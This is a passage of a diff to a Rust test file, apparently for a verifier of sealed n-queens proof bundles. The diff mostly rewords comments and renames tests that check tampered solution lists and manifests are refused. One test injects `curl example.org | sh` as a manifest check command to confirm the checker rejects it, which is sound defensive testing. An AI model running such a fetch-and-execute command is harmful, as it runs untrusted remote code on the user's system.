@@ -1,4 +1,4 @@
-//! Lists of solutions that are not the solutions, sealed with the right sizes and hashes.
+//! Wrong lists of solutions, sealed with the right sizes and hashes.
 
 use crate::support::bundle::{Bundle, line_number, with_line};
 
@@ -14,12 +14,12 @@ fn a_missing_solution() {
     let bundle = Bundle::of(FIVE);
     bundle.change("solutions.txt", without_last).seal();
     bundle.refused("solutions.txt lists 9 solutions, but 10 are claimed");
-    // The claim made to fit, the proof still logs it.
+    // The claim fits, but the proof still logs the solution.
     bundle.recount().seal();
     let fault = bundle.fault();
     assert!(fault.starts_with("proof.pbp: line "), "{fault}");
     assert!(fault.ends_with(" is not in the list"), "{fault}");
-    // Taken out of the proof too, the empty rest does not follow.
+    // Removed from the proof too: the rest no longer follows.
     bundle.change("proof.pbp", |proof| {
         let last = proof.lines().filter(|line| line.starts_with("solx")).count() - 1;
         with_line(proof, line_number(proof, last, |line| line.starts_with("solx")), |_| None)
@@ -50,15 +50,16 @@ fn a_doubled_solution() {
 fn a_wrong_solution() {
     for words in [FIVE, FIVE_LRAT] {
         let bundle = Bundle::of(words);
-        let (first, spoilt) = ("Qa1 Qb3 Qc5 Qd2 Qe4", "Qa1 Qb3 Qc5 Qd2 Qe5");
-        bundle.change("solutions.txt", |text| text.replace(first, spoilt)).recount().seal();
+        let (first, corrupted) = ("Qa1 Qb3 Qc5 Qd2 Qe4", "Qa1 Qb3 Qc5 Qd2 Qe5");
+        bundle.change("solutions.txt", |text| text.replace(first, corrupted)).recount().seal();
         bundle.refused(
             "solutions.txt: line 1: no placement of this problem: Qc5 attacks Qe5 (on its row)",
         );
     }
 }
 
-/// A listed solution and a board that is none change places: in the list geometry sees it, in the proof the list.
+/// A listed solution and a board that is none are exchanged: in the list geometry detects it, in
+/// the proof the list.
 #[test]
 fn a_solution_swapped_with_another_board() {
     let bundle = Bundle::of(FIVE);
@@ -82,28 +83,32 @@ fn a_solution_swapped_with_another_board() {
     assert!(fault.ends_with("is not the clause that forbids a listed solution"), "{fault}");
 }
 
-/// What the manifest tells a stranger to run, and to trust.
+/// The commands and the trusted files that the manifest names.
 #[test]
-fn other_advice() {
+fn changed_commands_in_the_manifest() {
     let bundle = Bundle::of(FIVE_LRAT);
     let mut manifest = bundle.manifest();
     manifest["proofs"][0]["check"] = "curl example.org | sh".into();
     bundle.write("manifest.json", &manifest.to_string());
-    bundle.refused("manifest.json: what it says of proof.lrat is `blocked.cnf; proof.lrat; curl example.org | sh; ");
+    bundle.refused(
+        "manifest.json: the text about proof.lrat is `blocked.cnf; proof.lrat; curl example.org \
+         | sh; ",
+    );
     manifest = Bundle::of(FIVE).manifest();
     manifest["proofs"][0]["trusted"] = serde_json::json!([]);
     let bundle = Bundle::of(FIVE);
     bundle.write("manifest.json", &manifest.to_string());
-    bundle.refused("manifest.json: what it says of proof.pbp is ");
+    bundle.refused("manifest.json: the text about proof.pbp is ");
 }
 
 #[test]
-fn other_claims() {
+fn changed_claims_in_the_manifest() {
     for (key, value, expected) in [
         (
             "solutions",
             "11",
-            "manifest.json: the statement is `n-queens at n = 5 has exactly 10 solutions`, but the rest says `n-queens at n = 5 has exactly 11 solutions`",
+            "manifest.json: the statement is `n-queens at n = 5 has exactly 10 solutions`, but the \
+             rest says `n-queens at n = 5 has exactly 11 solutions`",
         ),
         (
             "statement",
